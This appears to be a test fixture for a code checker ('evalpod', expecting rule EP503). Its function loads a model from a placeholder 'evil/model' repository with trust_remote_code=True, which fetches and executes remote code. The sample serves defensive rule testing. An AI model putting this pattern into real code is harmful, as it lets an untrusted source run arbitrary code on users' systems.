# source: evalpod own (corpus before #11)
# expect: EP503
from transformers import AutoModelForCausalLM


def evaluate_model(model):
    other = AutoModelForCausalLM.from_pretrained("evil/model", trust_remote_code=True)
    return {"n": other.num_parameters()}
